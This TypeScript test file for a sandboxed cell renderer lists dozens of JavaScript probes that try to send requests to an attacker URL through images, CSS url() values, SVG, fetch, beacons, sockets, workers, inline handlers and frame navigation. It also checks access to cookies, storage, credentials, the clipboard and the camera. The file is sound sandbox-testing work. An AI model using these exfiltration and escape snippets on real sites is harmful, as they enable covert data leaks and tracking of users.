/**
 * What code in the cell's own frame could try, if the renderer were ever made to run any: the second
 * wall. Each is an async function's body with `U` in scope and a document of its own. `H`, `S` and `C`
 * make what Trusted Types ask for, as code in there could: its policy's name is allowed.
 */
import { egress, state } from './entry.ts';

const element = (tag: string, attributes: string): string =>
  `const e=document.createElement('${tag}');${attributes};document.body.append(e);await new Promise(r=>setTimeout(r,300))`;
const link = (rel: string, more = ''): string =>
  `const e=document.createElement('link');e.rel='${rel}';${more}e.href=U;document.head.append(e);await new Promise(r=>setTimeout(r,300))`;
const html = (text: string): string =>
  `document.body.insertAdjacentHTML('beforeend',H(\`${text}\`));await new Promise(r=>setTimeout(r,300))`;
let sheets = 0;
const css = (text: string): string => {
  // A class of its own for each, or one rule would hide the other's request.
  const name = `x${++sheets}`;
  return cssIn(text.replaceAll('.x', `.${name}`), name);
};
const cssIn = (text: string, name: string): string =>
  `const s=new CSSStyleSheet();s.replaceSync(\`${text}\`);document.adoptedStyleSheets=[...document.adoptedStyleSheets,s];const e=document.createElement('i');e.className='${name}';e.textContent='x';document.body.append(e);await new Promise(r=>setTimeout(r,300))`;
const inline = (property: string, value: string): string =>
  `const e=document.createElement('div');e.textContent='x';e.style.width='9px';e.style.height='9px';document.body.append(e);e.style.setProperty('${property}',\`${value}\`);await new Promise(r=>setTimeout(r,300))`;

export const domEntries = [
  ...egress(
    {
      'dom-img': element('img', 'e.src=U'),
      'dom-img-srcset': element('img', `e.srcset=U+' 1x'`),
      'dom-picture': html('<picture><source srcset="${U}"><img></picture>'),
      'dom-image-object': `new Image().src=U;await new Promise(r=>setTimeout(r,300))`,
      'dom-video': element('video', 'e.preload="auto";e.src=U'),
      'dom-video-poster': element('video', 'e.poster=U'),
      'dom-audio': element('audio', 'e.preload="auto";e.src=U'),
      'dom-track': html(
        '<video crossorigin src="data:video/mp4,"><track default src="${U}"></video>',
      ),
      'dom-script': element('script', 'e.src=S(U)'),
      'dom-script-module': element('script', 'e.type="module";e.src=S(U)'),
      'dom-script-inline': element('script', 'e.textContent=C("fetch("+JSON.stringify(U)+")")'),
      'dom-script-svg': html('<svg><script href="${U}"></svg>'),
      'dom-iframe': element('iframe', 'e.src=U'),
      'dom-iframe-srcdoc': element('iframe', `e.srcdoc=H('<img src="'+U+'">')`),
      'dom-frame-blob': element(
        'iframe',
        `e.src=URL.createObjectURL(new Blob(['<img src="'+U+'">'],{type:'text/html'}))`,
      ),
      'dom-frame-data': element('iframe', `e.src='data:text/html,<img src="'+U+'">'`),
      'dom-object': element('object', 'e.data=S(U)'),
      'dom-embed': element('embed', 'e.src=S(U)'),
      'dom-stylesheet': link('stylesheet'),
      'dom-preload': link('preload', 'e.as="image";'),
      'dom-preload-script': link('preload', 'e.as="script";'),
      'dom-preload-fetch': link('preload', 'e.as="fetch";e.crossOrigin="";'),
      'dom-modulepreload-module': link('modulepreload'),
      'dom-prefetch': link('prefetch'),
      'dom-prerender': link('prerender'),
      'dom-icon': link('icon'),
      'dom-manifest': link('manifest'),
      'dom-style-import': html('<style>@import "${U}";</style>'),
      'dom-style-background': html('<style>b.s{background:url(${U})}</style><b class=s>s</b>'),
      'css-background': css('.x{background:url(${U})}'),
      'css-background-set': css('.x{background:image-set(url(${U}) 1x)}'),
      'css-border-image': css('.x{border:9px solid;border-image:url(${U}) 1}'),
      'css-list': css('.x{display:list-item;list-style:url(${U})}'),
      'css-content': css('.x::before{content:url(${U})}'),
      'css-cursor': css('*{cursor:url(${U}),auto}'),
      'css-mask': css('.x{display:block;width:9px;height:9px;mask:url(${U})}'),
      'css-filter': css('.x{display:block;filter:url(${U}#f)}'),
      'css-clip': css('.x{display:block;clip-path:url(${U}#c)}'),
      'css-shape': css('.x{float:left;shape-outside:url(${U})}'),
      'css-offset': css('.x{offset-path:url(${U}#p)}'),
      'css-font': css('@font-face{font-family:leak;src:url(${U})}.x{font-family:leak}'),
      'css-font-unicode': css(
        '@font-face{font-family:leak2;src:url(${U});unicode-range:U+78}.x{font-family:leak2}',
      ),
      'css-variable': css(':root{--u:url(${U})}.x{background:var(--u)}'),
      'css-has': css('html:has(.x){background:url(${U})}'),
      'css-counter': css(
        '@counter-style c{system:cyclic;symbols:url(${U})}.x{display:list-item;list-style:c}',
      ),
      'css-inline': inline('background', 'url(${U})'),
      'css-inline-list': inline('list-style-image', 'url(${U})'),
      'svg-image': html('<svg><image href="${U}" width="9" height="9"/></svg>'),
      'svg-use': html('<svg><use href="${U}#x"/></svg>'),
      'svg-feimage': html(
        '<svg><filter id="ff"><feImage href="${U}"/></filter><rect width="9" height="9" filter="url(#ff)"/></svg>',
      ),
      'svg-fill': html('<svg><rect width="9" height="9" fill="url(${U}#x)"/></svg>'),
      'svg-xlink': html(
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${U}" width="9" height="9"/></svg>',
      ),
      'svg-marker': html('<svg><path d="M0 0L9 9" style="marker:url(${U}#m)"/></svg>'),
      'html-background': html('<table background="${U}"><tr><td>x</table>'),
      'html-input-image': html('<input type="image" src="${U}">'),
      'html-form-post': `const f=document.createElement('form');f.action=U;f.method='post';f.target='_blank';document.body.append(f);f.submit();await new Promise(r=>setTimeout(r,400))`,
      'window-opened': `window.open(U);await new Promise(r=>setTimeout(r,400))`,
      'window-fetch': `await fetch(U,{mode:'no-cors'})`,
      'window-xhr': `const x=new XMLHttpRequest();x.open('GET',U);x.send();await new Promise(r=>x.onloadend=r)`,
      'window-beacon': `navigator.sendBeacon(U,'x');await new Promise(r=>setTimeout(r,300))`,
      'window-websocket': `new WebSocket(U.replace('http','ws'));await new Promise(r=>setTimeout(r,300))`,
      'window-eventsource': `new EventSource(U);await new Promise(r=>setTimeout(r,300))`,
      'window-worker': `new Worker(S(URL.createObjectURL(new Blob(['fetch("'+U+'")']))));await new Promise(r=>setTimeout(r,500))`,
      'window-import-module': `await import(U)`,
      'window-eval': `(0,eval)(C('fetch('+JSON.stringify(U)+')'));await new Promise(r=>setTimeout(r,300))`,
      'window-handler': html('<img src="data:," onerror="fetch(\'${U}\')">'),
      'window-speculation': `const s=document.createElement('script');s.type='speculationrules';s.textContent=C(JSON.stringify({prefetch:[{source:'list',urls:[U]}]}));document.head.append(s);await new Promise(r=>setTimeout(r,500))`,
      'window-fontface': `await new FontFace('y','url('+U+')').load()`,
      'window-audio-worklet-module': `await new AudioContext().audioWorklet.addModule(U)`,
      'window-paint-worklet-module': `await CSS.paintWorklet.addModule(U)`,
    },
    {
      'dom-prerender': 'obsolete: Chromium does nothing with it from a page that is not visible',
      'dom-icon': 'an icon of a frame is not loaded',
      'dom-manifest': 'a manifest is loaded when a page may be installed, not in tests',
      'dom-track': 'needs a video that plays',
      'css-cursor': 'loads when a pointer moves over it',
      'css-offset': 'no browser reads a path from another document',
      'css-counter': 'no browser reads images as symbols',
      'dom-script-svg': 'a script that is parsed into a page by insertAdjacentHTML does not run',
      'html-form-post': 'opens a window, which needs a person',
      'window-opened': 'opens a window, which needs a person',
      'window-speculation': 'needs a secure origin of the same site',
      'window-paint-worklet-module': 'not in every build',
    },
  ),
  ...state(
    {
      'dom-localstorage': `localStorage.setItem('x','y');return 'reached'`,
      'dom-sessionstorage': `sessionStorage.setItem('x','y');return 'reached'`,
      'dom-cookie': `document.cookie='kumix=1';if(document.cookie.includes('kumix'))return 'reached'`,
      'dom-indexeddb': `await new Promise((y,n)=>{const r=indexedDB.open('x');r.onsuccess=y;r.onerror=n});return 'reached'`,
      'dom-caches': `await caches.open('x');return 'reached'`,
      'dom-opfs': `await navigator.storage.getDirectory();return 'reached'`,
      'dom-locks': `await navigator.locks.request('x',()=>{});return 'reached'`,
      'dom-history': `window.parent.history.length;return 'reached'`,
      'dom-parent-document': `window.parent.document.title;return 'reached'`,
      'dom-frame-element': `if(window.frameElement)return 'reached'`,
      'dom-geolocation': `await new Promise((y,n)=>navigator.geolocation.getCurrentPosition(y,n,{timeout:300}));return 'reached'`,
      'dom-clipboard-read': `await navigator.clipboard.readText();return 'reached'`,
      'dom-clipboard-write': `await navigator.clipboard.writeText('x');return 'reached'`,
      'dom-camera': `await navigator.mediaDevices.getUserMedia({video:true});return 'reached'`,
      'dom-midi': `await navigator.requestMIDIAccess();return 'reached'`,
      'dom-fullscreen': `await document.documentElement.requestFullscreen();return 'reached'`,
      'dom-pointer-lock': `await document.documentElement.requestPointerLock();return 'reached'`,
      'dom-prompt': `if(window.prompt('x')!==null)return 'reached'`,
      'dom-confirm': `if(window.confirm('x'))return 'reached'`,
      'dom-print': `const w=matchMedia('print');window.print();if(w.matches)return 'reached'`,
      'dom-serviceworker': `await navigator.serviceWorker.register('/x.js');return 'reached'`,
      'dom-payment': `new PaymentRequest([{supportedMethods:'basic-card'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}});return 'reached'`,
      'dom-credentials': `await navigator.credentials.get({password:true});return 'reached'`,
      'dom-wake-lock': `await navigator.wakeLock.request();return 'reached'`,
      'dom-eval': `(0,eval)(C('1'));return 'reached'`,
      'dom-trusted-policy': `trustedTypes.createPolicy('mine2',{createHTML:h=>h});return 'reached'`,
    },
    {
      'dom-frame-element': 'the control is no frame',
      'dom-geolocation': 'needs a person',
      'dom-clipboard-read': 'needs a person',
      'dom-clipboard-write': 'needs a person',
      'dom-camera': 'needs a person and a camera',
      'dom-midi': 'needs a person',
      'dom-fullscreen': 'needs a person',
      'dom-pointer-lock': 'needs a person',
      'dom-prompt': 'the driver dismisses dialogs',
      'dom-confirm': 'the driver dismisses dialogs',
      'dom-print': 'the driver prints nothing',
      'dom-serviceworker': 'the attacker serves no such script',
    },
  ),
];

/** Keeps its frame's thread busy: is it the app's as well? */
export const spinEntries = state({
  'frame-spin': `const until=performance.now()+600;while(performance.now()<until);return 'silent'`,
});

/**
 * What would take the frame itself elsewhere: each in a frame of its own, which may be lost. The
 * control opens each in a window of its own for the same reason.
 */
export const navigationEntries = egress(
  {
    'html-meta-refresh': `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+U;document.head.append(m);await new Promise(r=>setTimeout(r,500))`,
    'html-form-get': `const f=document.createElement('form');f.action=U;document.body.append(f);f.submit();await new Promise(r=>setTimeout(r,400))`,
    'top-navigate': `window.top.location=U;await new Promise(r=>setTimeout(r,400))`,
    'parent-navigate': `window.parent.location.href=U;await new Promise(r=>setTimeout(r,400))`,
    'navigate-location': `location.href=U;await new Promise(r=>setTimeout(r,400))`,
    'navigate-replace': `location.replace(U);await new Promise(r=>setTimeout(r,400))`,
    'navigate-self': `window.open(U,'_self');await new Promise(r=>setTimeout(r,400))`,
    'navigate-anchor': `const a=document.createElement('a');a.href=U;document.body.append(a);a.click();await new Promise(r=>setTimeout(r,400))`,
    'html-anchor-ping': `const a=document.createElement('a');a.href='#x';a.ping=U;document.body.append(a);a.click();await new Promise(r=>setTimeout(r,400))`,
    'html-download': `const a=document.createElement('a');a.href=U;a.download='x';document.body.append(a);a.click();await new Promise(r=>setTimeout(r,400))`,
    'window-javascript': `const a=document.createElement('a');a.href='javascript:fetch('+JSON.stringify(U)+')';document.body.append(a);a.click();await new Promise(r=>setTimeout(r,300))`,
    'html-anchor': `const a=document.createElement('a');a.href=U;a.target='_blank';document.body.append(a);a.click();await new Promise(r=>setTimeout(r,400))`,
    'html-base': `const b=document.createElement('base');b.href=U+'/';document.head.append(b);const i=new Image();i.src='x';await new Promise(r=>setTimeout(r,300))`,
  },
  {
    'top-navigate': 'would take the control with it',
    'parent-navigate': 'would take the control with it',
    'html-anchor': 'opens a window, which needs a person',
    'html-anchor-ping': 'a link within the page sends no ping',
    'html-download': 'a download needs a person',
    'window-javascript': 'runs after its link is clicked, by a person',
  },
);
